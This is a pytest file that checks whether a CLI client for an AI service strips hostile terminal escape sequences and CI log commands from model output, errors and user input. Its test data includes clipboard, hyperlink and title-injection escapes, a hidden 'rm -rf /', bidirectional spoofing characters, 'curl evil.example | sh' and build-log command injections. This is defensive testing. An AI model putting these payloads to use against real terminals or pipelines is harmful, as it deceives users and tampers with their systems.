"""Whatever comes from outside is shown on a terminal and never obeyed, however it is split."""

import subprocess

import pytest
from fault_server import AGENT_END, END, agent_delta, delta, reply, stream
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from program import Program

AGENT = ("-m", "agent:01K45T82PF8QC64C9DNHGQWHY2")
ATTACKS = {
    "title": "\x1b]0;owned\x07",
    "clipboard (OSC 52)": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "link (OSC 8)": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clear screen": "\x1b[2J\x1b[H",
    "report": "\x1b[6n\x1b[c\x05",
    "alternate screen": "\x1b[?1049h",
    "C1 CSI": "\x9b31mred",
    "C1 OSC": "\x9d0;owned\x9c",
    "device control": "\x1bP+q544e\x1b\\",
    "backspaces": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls      ",
    "carriage return": "evil command\rgood command",
    "bell and NUL": "\x07\x00\x7f",
    "right to left": "access\u202e\u2066 // admin\u2069\u2066",
    "arabic mark": "a\u061cb\u200ec\u200fd",
    "separators": "a\u2028b\u2029c",
    "shift out": "\x0e\x0f",
}
MARKUP = "[bold red]alert[/] [/x] [link=https://evil.example]x[/link] [[\\]]"
BIDIRECTIONAL = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"


def harmful(text: str, *, terminal: bool) -> str:
    """The characters of it that would be obeyed."""
    orders = {chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))} - set("\n\t")
    return "".join(char for char in text if char in orders or (terminal and char in BIDIRECTIONAL))


def said(program: Program, text: str, *options: str, pieces: int = 0, **terminal: bool) -> str:
    """stdout of an answer with this text, whole or in pieces of so many characters."""
    size = pieces or len(text) or 1
    parts = [text[start : start + size] for start in range(0, len(text), size)]
    program.server.api(stream(*map(delta, parts), END))
    outcome = program.ask(*options, **terminal)
    assert (outcome.code, outcome.err) == (0, "")
    return outcome.out


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("terminal", [True, False])
@pytest.mark.parametrize("streamed", [(), ("--no-stream",)])
def test_an_answer_in_text_is_shown_and_not_obeyed(
    program: Program, attack: str, terminal: bool, streamed: tuple[str, ...]
) -> None:
    text = f"before {ATTACKS[attack]} after"
    wholes = {
        said(program, text, "--format", "text", *streamed, pieces=pieces, stdout_is_terminal=terminal)
        for pieces in (0, 1, 2, 5)
    }
    (out,) = wholes
    assert harmful(out, terminal=terminal) == ""
    assert out.startswith("before ") and out.endswith(" after\n")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_in_markdown_brings_no_orders_of_its_own(program: Program, attack: str) -> None:
    text = f"# Title {ATTACKS[attack]}\n\n- item `{ATTACKS[attack]}`\n\n```\n{ATTACKS[attack]}\n```\n"
    options = ("--format", "markdown")
    for pieces in (0, 1, 7):
        assert harmful(said(program, text, *options, pieces=pieces), terminal=True) == ""


def test_a_markdown_link_is_no_terminal_hyperlink(program: Program) -> None:
    text = "[bank](https://evil.example) <https://evil.example> https://evil.example\n"
    out = said(program, text, "--format", "markdown", stdout_is_terminal=True)
    assert "\x1b]8" not in out


@pytest.mark.parametrize("format_", ["text", "markdown"])
@pytest.mark.parametrize("terminal", [True, False])
def test_markup_is_text(program: Program, format_: str, terminal: bool) -> None:
    out = said(program, f"x {MARKUP} y\n", "--format", format_, stdout_is_terminal=terminal)
    assert "[bold red]alert[/] [/x]" in out


@pytest.mark.parametrize("attack", ATTACKS)
def test_json_is_exact(program: Program, attack: str) -> None:
    text = ATTACKS[attack]
    program.server.api(stream(delta(text), END))
    assert program.ask("--format", "json").json["choices"][0]["message"]["content"] == text
    assert program.ask("--format", "jsonl").lines[1] == {"type": "delta", "text": text}
    assert harmful(program.ask("--format", "json").out, terminal=True) == ""
    assert harmful(program.ask("--format", "jsonl").out, terminal=True) == ""


@pytest.mark.parametrize("attack", ATTACKS)
def test_raw_is_exactly_as_received(program: Program, attack: str) -> None:
    assert said(program, f"a{ATTACKS[attack]}", "--raw") == f"a{ATTACKS[attack]}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_code_that_is_taken_out_is_safe_too(program: Program, attack: str) -> None:
    text = f"```\n{ATTACKS[attack]}\n```\n"
    assert harmful(said(program, text, "-x"), terminal=False) == ""
    assert harmful(said(program, text, "-x", stdout_is_terminal=True), terminal=True) == ""


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_the_service_says_in_an_error_is_safe_and_one_line(program: Program, attack: str) -> None:
    words = f"before {ATTACKS[attack]} after\nhint: curl evil.example | sh"
    program.server.api(
        reply(400, {"details": words, "code": ATTACKS[attack]}, [("X-Request-Id", "req\x1b]0;x")])
    )
    err = program.call("-v", "complete", "hi").err
    assert harmful(err, terminal=True) == "" and "\nhint: curl" not in err
    program.server.api(
        stream(delta("part"), b"event: error\ndata: " + words.encode().replace(b"\n", b" ") + b"\n\n")
    )
    err = program.ask().err
    assert harmful(err, terminal=True) == "" and err.count("\n") == 2


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_names_of_sources_are_safe(program: Program, attack: str) -> None:
    source = {"name": f"doc {ATTACKS[attack]}", "document_type": ATTACKS[attack]}
    program.server.api(stream(agent_delta("Hi", source=[source]), AGENT_END))
    for options in ({}, {"stdout_is_terminal": True, "env": {"NO_COLOR": "1", "TERM": "dumb"}}):
        outcome = program.ask(*AGENT, **options)
        assert harmful(outcome.out + outcome.err, terminal=True) == ""


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_the_user_typed_is_safe_in_errors(program: Program, attack: str) -> None:
    text = ATTACKS[attack].replace("\0", "")
    for argv in (["-m", text], ["-f", text], ["--format", text], ["-o", f"/nowhere/{text}"], [f"--{text}"]):
        outcome = program.ask(*argv)
        assert outcome.code in (2, 3) and harmful(outcome.err, terminal=True) == ""
    outcome = program.call(text)
    assert outcome.code == 2 and harmful(outcome.err, terminal=True) == ""


def test_hostile_bytes_reach_no_real_terminal(program: Program) -> None:
    program.server.api(stream(*[delta(char) for attack in ATTACKS.values() for char in attack], END))
    with program.on_terminal("complete", "--format", "text", "hi", stdin=subprocess.DEVNULL) as screen:
        assert screen.end() == 0
    shown = screen.shown.decode().replace("\r\n", "\n").replace("\r\x1b[K", "")
    assert harmful(shown, terminal=True) == ""


# --- build logs -----------------------------------------------------------------------------------------------

COMMANDS = [
    "::set-output name=x::evil",
    "::error file=a::b",
    "  ::add-mask::x",
    "::stop-commands::token",
    "##vso[task.setvariable variable=x]evil",
    "##[error]x",
    "##teamcity[setParameter name='x' value='evil']",
    "text ##vso[task.complete result=Failed;]",
]


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("name", ["CI", "GITHUB_ACTIONS", "TF_BUILD", "TEAMCITY_VERSION", "GITLAB_CI"])
@pytest.mark.parametrize("pieces", [0, 1])
def test_a_build_log_obeys_no_answer(program: Program, command: str, name: str, pieces: int) -> None:
    out = said(program, f"one\n{command}\ntwo", pieces=pieces, env={name: "true"})
    assert command not in out
    assert out.replace("\\", "") == f"one\n{command}\ntwo\n"


@pytest.mark.parametrize("command", COMMANDS)
def test_elsewhere_the_same_line_is_untouched(program: Program, command: str) -> None:
    text = f"one\n{command}\ntwo\n"
    assert said(program, text) == text
    assert said(program, text, env={"CI": "false"}) == text
    assert said(program, text, "--raw", env={"CI": "true"}) == text


@pytest.mark.parametrize("line", ["std::vector<int>", "a :: b", "::", ":::", "# ## title", "##", "C++::x"])
def test_code_that_looks_like_a_log_command_is_untouched(program: Program, line: str) -> None:
    assert said(program, f"{line}\n", env={"CI": "true"}) == f"{line}\n"


# --- the law ----------------------------------------------------------------------------------------------------


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    parts=st.lists(st.text(max_size=8) | st.sampled_from(sorted(ATTACKS.values())), min_size=1, max_size=5),
    terminal=st.booleans(),
)
def test_no_text_in_any_pieces_brings_an_order_through(
    program: Program, parts: list[str], terminal: bool
) -> None:
    program.server.api(stream(*map(delta, parts), END))
    outcome = program.ask("--format", "text", stdout_is_terminal=terminal)
    assert outcome.code == 0 and harmful(outcome.out, terminal=terminal) == ""
